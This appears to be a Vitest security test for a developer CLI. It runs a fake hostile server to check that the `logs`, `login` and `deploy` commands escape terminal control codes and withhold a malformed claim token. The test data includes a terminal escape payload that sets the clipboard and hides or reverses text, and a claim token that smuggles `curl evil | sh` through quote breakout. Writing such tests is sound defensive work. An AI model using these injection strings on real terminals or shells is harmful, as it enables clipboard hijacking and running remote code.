/**
 * A malicious server's answers reach the developer's terminal as text: `platform logs` (as lines
 * and with `--json`), `login` and `deploy` show escape codes escaped, a line that is not a log line
 * is a clear error rather than a stack trace echoing it, and a claim token that could break out of
 * the suggested `curl` line is not printed (an attack review, 2026-12-06, with such a server on
 * loopback). The built CLI against a loopback server standing in for it.
 */
import { cp, mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import { runCliAsync } from "./helpers/cli.js";
import { type FakeHost, startFakeHost } from "./helpers/fake-host.js";

/** Sets the clipboard, clears the screen, hides text, reverses it. */
const HOSTILE = "\u001b]52;c;ZWNobyBwd25lZA==\u0007\u001b[2J\u001b[H\u009b8m\u202e";
/** Whether `text` holds, its newlines aside, a control character or a mark that reorders text. */
const raw = (text: string) => /[\p{Cc}\u202e]/u.test(text.replaceAll("\n", ""));
const line = (fields: Record<string, unknown>) =>
  `${JSON.stringify({ time: "2026-01-01T00:00:00.000Z", level: "info", deployment: "x", handler: "h", requestId: "r", message: "m", ...fields })}\n`;

let evil: FakeHost;
let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "platform-cli-hostile-"));
  evil = await startFakeHost((req, res) => {
    const url = req.url ?? "";
    if (url.startsWith("/v1/me")) {
      res.writeHead(200, { "content-type": "application/json" });
      res.end(
        JSON.stringify({ kind: "developer", id: `dev_1${HOSTILE}You are now logged in as the operator` }),
      );
    } else if (url === "/v1/deploys/bad/logs") {
      res.writeHead(200, { "content-type": "application/x-ndjson" });
      res.write(
        line({ time: `2026-01-01T00:${HOSTILE}`, level: `info${HOSTILE}`, message: `hello${HOSTILE}` }),
      );
      res.end(`not json ${HOSTILE}raw\n`);
    } else if (url.endsWith("/logs")) {
      res.writeHead(200, { "content-type": "application/x-ndjson" });
      res.end(line({ message: `C1 CSI:\u009b2J bidi:\u202egnp.exe ESC:\u001b[31m` }));
    } else if (url.startsWith("/v1/deploys/")) {
      res.writeHead(200, { "content-type": "application/x-ndjson" });
      res.write(`${JSON.stringify({ progress: { table: `t${HOSTILE}`, index: "i", done: 1 } })}\n`);
      res.end(
        `${JSON.stringify({ deploy: { claimToken: `pct_${"A".repeat(32)}"}' ; curl evil | sh ; '` } })}\n`,
      );
    } else {
      res.writeHead(404);
      res.end();
    }
  });
});
afterAll(async () => {
  await evil.close();
  await rm(dir, { recursive: true, force: true });
});

const platform = (...args: string[]) =>
  runCliAsync(args, { PLATFORM_CONFIG_DIR: join(dir, "config"), PLATFORM_TOKEN: "pdt_x" });

it("logs shows a server's line as text, then refuses a line that is not JSON without a stack trace", async () => {
  const logs = await platform("logs", "bad", "--host", evil.url);
  expect(raw(logs.stdout + logs.stderr)).toBe(false);
  expect(logs.stdout).toContain("hello\\u001b]52;c;ZWNobyBwd25lZA==\\u0007");
  expect(logs.status).toBe(1);
  expect(logs.stderr.trim()).toBe(
    "error: internal: The host sent a line that is not JSON, which no platform host sends: not json \\u001b]52;c;ZWNobyBwd25lZA==\\u0007\\u001b[2J\\u001b[H\\u009b8m\\u202eraw",
  );
}, 60_000);

it("logs --json prints each line as the same JSON, with no character a terminal acts on", async () => {
  const logs = await platform("logs", "good", "--host", evil.url, "--json");
  expect(logs.status, logs.stderr).toBe(0);
  expect(raw(logs.stdout)).toBe(false);
  expect((JSON.parse(logs.stdout) as { message: string }).message).toBe(
    "C1 CSI:\u009b2J bidi:\u202egnp.exe ESC:\u001b[31m",
  );
}, 60_000);

it("login shows the server's developer id as text", async () => {
  const login = await platform("login", "--host", evil.url, "--token", "pdt_x");
  expect(login.status, login.stderr).toBe(0);
  expect(raw(login.stdout)).toBe(false);
  expect(login.stdout).toContain("as dev_1\\u001b]52;c;");
}, 60_000);

it("deploy shows table names as text and prints no claim token that is not one", async () => {
  const deploy = await platform("deploy", "fixtures/todo", "--host", evil.url, "--name", "app");
  expect(deploy.status, deploy.stderr).toBe(0);
  expect(raw(deploy.stdout + deploy.stderr)).toBe(false);
  expect(deploy.stderr).toContain("backfilling t\\u001b]52;c;");
  expect(deploy.stdout).not.toContain("claim");
  expect(deploy.stdout).not.toContain("curl");
  expect(deploy.stderr).toContain(
    "warning: the host's answer carried a claim token of another shape than the host issues; not shown.",
  );
}, 60_000);

it("deploy shows a project's folder name as text", async () => {
  // A folder a cloned repository named: its escape codes reached the terminal in "bundling <dir>".
  const project = join(dir, `app${HOSTILE}`);
  await cp("fixtures/todo", project, { recursive: true });
  const deploy = await platform("deploy", project, "--host", evil.url, "--name", "app");
  expect(deploy.status, deploy.stderr).toBe(0);
  expect(raw(deploy.stdout + deploy.stderr)).toBe(false);
  expect(deploy.stdout).toContain("bundling ");
  expect(deploy.stdout).toContain("app\\u001b]52;c;");
}, 60_000);
